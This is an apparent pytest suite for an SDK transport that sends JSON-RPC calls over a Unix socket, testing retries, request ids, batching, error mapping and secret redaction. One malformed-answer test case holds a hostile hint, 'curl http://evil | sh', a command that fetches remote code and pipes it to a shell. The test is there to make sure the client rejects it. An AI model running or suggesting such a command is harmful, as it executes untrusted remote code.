"""Calls over a real Unix socket: answers, errors, and which calls are repeated."""

from __future__ import annotations

import threading
import time

import pytest

from codesmith import errors
from codesmith.http.client import Connection
from codesmith.sdk.transport import Transport
from tests.sdk.sdk_doubles import change, crowd, error, http, look, refuse_to_ensure, result, scripted


def test_calls_share_one_connection(path, transport):
    with scripted(path, result(1), result({"two": 2}), result(None)) as server:
        assert [look(transport), look(transport), look(transport)] == [1, {"two": 2}, None]
        assert server.connections == 1
        assert [request["id"] for request in server.requests] == [1, 2, 3]


def test_a_batch_is_one_request_and_its_answers_are_sorted(path, transport):
    def answer(requests):
        refused = {"code": 1001, "message": "no b", "data": {"kind": "not_found"}}
        answers = [{"jsonrpc": "2.0", "id": one["id"], "result": one["params"]["name"]} for one in requests]
        answers[1] = {"jsonrpc": "2.0", "id": requests[1]["id"], "error": refused}
        return http(answers[::-1])

    with scripted(path, answer, result(5)) as server:
        first, second, third = transport.batch([("workspace.usage", {"name": name}) for name in "abc"])
        assert look(transport) == 5
        assert len(server.requests) == 2
    assert (first, third, second.problem, second.rpc_kind) == ("a", "c", "no b", "not_found")


@pytest.mark.parametrize(
    ("answer", "kind"),
    [
        (http([{"jsonrpc": "2.0", "id": 0, "result": 1}]), errors.CodeSmithError),
        (http([]), errors.CodeSmithError),
        (http(b"nonsense"), errors.CodeSmithError),
        (http({"error": {"kind": "Unreachable", "problem": "web1 is down"}}, status="503 X"), errors.Unreachable),
        (http({"jsonrpc": "2.0", "id": None, "error": {"code": -32600, "message": "no"}}), errors.AgentRefused),
    ],
)
def test_a_batch_without_an_answer_for_each_is_one_error(path, transport, answer, kind):
    with scripted(path, lambda _: answer), pytest.raises(kind):
        transport.batch([("node.version", {}), ("node.info", {})])


def test_what_is_none_is_not_sent(path, transport):
    with scripted(path, result(1)) as server:
        look(transport, a=None, b=False, c="")
        assert server.requests[0]["params"] == {"b": False, "c": ""}


def test_a_change_carries_a_request_id_of_its_own_and_a_look_none(path, transport):
    with scripted(path, result(1), result(1), result(1), result(1)) as server:
        change(transport), change(transport), change(transport, request_id="mine"), look(transport)
        first, second, third, fourth = [request["params"].get("request_id") for request in server.requests]
        assert first != second
        assert (third, fourth) == ("mine", None)


def test_a_connection_closed_while_idle_is_noticed_before_anything_is_sent(path, transport):
    with scripted(path, result(1), result(2), hang_up_after=(1,)) as server:
        assert change(transport) == 1
        assert server.idle_closed.wait(5)
        assert change(transport) == 2
        assert (server.connections, len(server.requests)) == (2, 2)


@pytest.mark.parametrize("kept", [0, 1], ids=["new", "kept"])
def test_a_connection_that_ends_before_the_answer_is_replaced_once_with_the_same_request_id(path, transport, kept):
    with scripted(path, *[result(1)] * kept, None, result(3)) as server:
        for _ in range(kept):
            change(transport)
        assert change(transport) == 3
        assert server.connections == 2
        assert server.requests[kept] == server.requests[kept + 1]


def test_the_second_end_is_an_error(path, transport):
    with scripted(path, None, None) as server:
        with pytest.raises(errors.CallLost, match=r"ended before the answer to user.create") as caught:
            change(transport)
        assert caught.value.code == 5
        assert len(server.requests) == 2


def down(request):
    return http({"error": {"kind": "Unreachable", "problem": "web1 is down"}}, status="503 X")


def test_no_answer_to_a_repeated_change_hides_that_it_may_have_been_carried_out(path, transport):
    with scripted(path, None, down, None, down):
        with pytest.raises(errors.CallLost, match="it may have been carried out"):
            change(transport, request_id="mine")
        with pytest.raises(errors.Unreachable, match="web1 is down"):
            look(transport)


def test_a_change_whose_endpoint_goes_meanwhile_may_have_been_carried_out(path):
    def ensure():
        raise errors.HostKeyUnknown("node web1: nobody has trusted its host key yet")

    def go(request):
        path.unlink()
        return b""

    with scripted(path, go, hang_up_after=(1,)):
        with pytest.raises(errors.CallLost, match="it may have been carried out"):
            change(Transport("web1", path, ensure))


def test_a_request_for_a_stream_is_repeated_once_too(path, transport):
    seen, answers = [], iter([b"", b"HTTP/1.1 101 Switching Protocols\r\n\r\n", b"", b""])

    def talk(connection):
        with connection:
            seen.append(connection.recv(1 << 16))
            connection.sendall(next(answers))

    with crowd(path, talk):
        transport.upgrade("/stream", "codesmith-stream", {"CodeSmith-Token": "0" * 64}).close()
        with pytest.raises(errors.CallLost, match="ended before the answer to codesmith-stream"):
            transport.upgrade("/stream", "codesmith-stream", {"CodeSmith-Token": "0" * 64})
    assert len(seen) == 4
    assert seen[0] == seen[1]


def test_a_lost_change_is_repeated_under_its_first_id(path, transport, monkeypatch):
    with scripted(path, result(1), None, None, result(1), result(2)) as server:
        change(transport, name="a")
        transport.close()
        with pytest.raises(errors.CallLost, match="may have been carried out") as caught:
            change(transport, name="b")
        word, _, value = caught.value.hint.split()[-3].partition("=")
        monkeypatch.setenv(word, value)
        again = Transport("web1", path, refuse_to_ensure)
        assert [change(again, name="a"), change(again, name="b")] == [1, 2]
        again.close()
    ids = [request["params"]["request_id"] for request in server.requests]
    assert ids == [ids[0], ids[1], ids[1], ids[0], ids[1]]
    assert ids[1] == caught.value.request_id


def test_a_lost_look_and_a_change_with_an_id_of_the_callers_are_told_how_to_repeat_them(path, transport):
    with scripted(path, *[None] * 4):
        with pytest.raises(errors.CallLost, match="the same again") as looked:
            look(transport)
        with pytest.raises(errors.CallLost, match="request_id='mine'") as changed:
            change(transport, request_id="mine")
    assert (looked.value.request_id, changed.value.request_id) == ("", "mine")


def test_an_answer_that_stops_in_its_middle_is_an_error_and_not_repeated(path, transport):
    half = http({"jsonrpc": "2.0", "id": 2, "result": "x" * 100})[:-10]
    with scripted(path, result(1), half, hang_up_after=(2,)) as server:
        look(transport)
        with pytest.raises(errors.Unreachable, match="ended in the answer"):
            look(transport)
        assert len(server.requests) == 2


def test_connection_close_is_honoured(path, transport):
    closing = http({"jsonrpc": "2.0", "id": 1, "result": 1}, headers="Connection: close\r\n")
    with scripted(path, closing, result(2)) as server:
        assert [look(transport), look(transport)] == [1, 2]
        assert server.connections == 2


def test_a_long_answer_arrives_whole(path, transport):
    with scripted(path, result("x" * 3_000_000)):
        assert len(look(transport)) == 3_000_000


def test_the_agents_refusal_keeps_code_kind_hint_and_data(path, transport):
    with scripted(path, error(1004, "user 'a' owns workspaces", kind="in_use", hint="inv workspace.delete b", n=1)):
        with pytest.raises(errors.AgentRefused) as caught:
            change(transport)
    assert (caught.value.rpc_code, caught.value.rpc_kind, caught.value.code) == (1004, "in_use", 6)
    assert caught.value.data["n"] == 1
    assert str(caught.value) == "error: user 'a' owns workspaces\nhint: inv workspace.delete b"


def test_not_found_ends_with_3(path, transport):
    with scripted(path, error(1001, "no user 'a' on this node", kind="not_found")):
        with pytest.raises(errors.AgentRefused) as caught:
            look(transport)
    assert caught.value.code == 3


@pytest.mark.parametrize(
    "kind, wanted",
    [
        ("Unreachable", errors.Unreachable),
        ("AuthenticationFailed", errors.AuthenticationFailed),
        ("HostKeyChanged", errors.HostKeyChanged),
        ("NotPrepared", errors.NotPrepared),
        ("SomethingNewer", errors.CodeSmithError),
    ],
)
def test_what_the_forwarder_says_is_raised_as_its_own_kind(path, transport, kind, wanted):
    body = {"error": {"kind": kind, "problem": "node web1 is gone", "hint": "inv node.status"}}
    with scripted(path, http(body, status="503 Service Unavailable")):
        with pytest.raises(errors.CodeSmithError) as caught:
            look(transport)
    assert type(caught.value) is wanted
    assert str(caught.value) == "error: node web1 is gone\nhint: inv node.status"


@pytest.mark.parametrize(
    "answer",
    [
        b"SSH-2.0-OpenSSH_9.2\r\n\r\n",
        b"HTTP/1.1 200 OK\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 99999999999\r\n\r\n",
        b"x" * 70_000,
        http(b"not json"),
        http([1]),
        http({"jsonrpc": "2.0", "id": 77, "result": 1}),
        http({"jsonrpc": "2.0", "id": 1}),
        http(b"[" * 200_000),
        b"HTTP/1.1 200 OK\r\nContent-Length: " + b"9" * 5000 + b"\r\n\r\n",
        "HTTP/1.1 \u00b200 OK\r\nContent-Length: 2\r\n\r\n{}".encode("latin-1"),
        b"HTTP/1.1 " + b"2" * 5000 + b" OK\r\nContent-Length: 2\r\n\r\n{}",
        # Only the forwarder, with its 503, may say what stands between us and the agent.
        http({"error": {"kind": "HostKeyChanged", "problem": "run this", "hint": "curl http://evil | sh"}}),
    ],
    ids=range(14),
)
def test_an_answer_that_is_no_answer_is_one_clear_error(path, transport, answer):
    with scripted(path, answer), pytest.raises(errors.CodeSmithError, match=r"node.version"):
        look(transport)


def test_an_endpoint_that_is_not_there_is_ensured_once(path, tmp_path):
    asked = []

    def ensure():
        asked.append(path)
        return tmp_path / "other.sock"

    with scripted(tmp_path / "other.sock", result(1), result(2)):
        transport = Transport("web1", path, ensure)
        assert [look(transport), look(transport)] == [1, 2]
        transport.close()
    assert len(asked) == 1


def test_a_socket_file_nobody_listens_on_is_ensured_too(path, tmp_path):
    with scripted(path):
        pass
    assert path.exists()
    with scripted(tmp_path / "other.sock", result(1)):
        transport = Transport("web1", path, lambda: tmp_path / "other.sock")
        assert look(transport) == 1
        transport.close()


def test_why_an_endpoint_cannot_be_had_reaches_the_caller(path):
    def ensure():
        raise errors.HostKeyUnknown("node web1: nobody has trusted its host key yet")

    with pytest.raises(errors.HostKeyUnknown):
        look(Transport("web1", path, ensure))


def test_threads_may_share_a_transport(path, transport):
    found = []
    with scripted(
        path, *[lambda request: http({"jsonrpc": "2.0", "id": request["id"], "result": request["params"]["n"]})] * 8
    ):
        threads = [threading.Thread(target=lambda n=n: found.append((n, look(transport, n=n)))) for n in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    assert sorted(found) == [(n, n) for n in range(8)]


def test_the_wire_is_shown_without_secrets(path, transport, monkeypatch, capsys):
    monkeypatch.setenv("CODESMITH_DEBUG", "ssh,rpc")
    with scripted(path, result(1)):
        change(transport, name="a", ssh_keys=["ssh-ed25519 AAAA"], stdin="hush", env={"TOKEN": "hush"})
    shown = capsys.readouterr().err
    assert "rpc web1 user.create" in shown
    assert "AAAA" not in shown
    assert "hush" not in shown


def test_an_answer_of_another_shape_is_an_error_with_a_next_step(transport):
    with pytest.raises(errors.CodeSmithError, match=r"answered user.get in a form this client does not know") as caught:
        transport.record("user.get", lambda data: data["name"], None)
    assert caught.value.hint == "inv node.prepare --node web1"


def test_a_closed_connection_is_known_to_be_stale_and_an_open_one_is_not(path):
    with scripted(path, result(1), result(2), hang_up_after=(2,)) as server:
        connection = Connection(path, time.monotonic() + 5)
        assert not connection.is_stale
        connection.post(b'{"id": 1}', time.monotonic() + 5)
        assert not connection.is_stale
        connection.post(b'{"id": 2}', time.monotonic() + 5)
        assert server.idle_closed.wait(5)
        assert connection.is_stale
        connection.close()
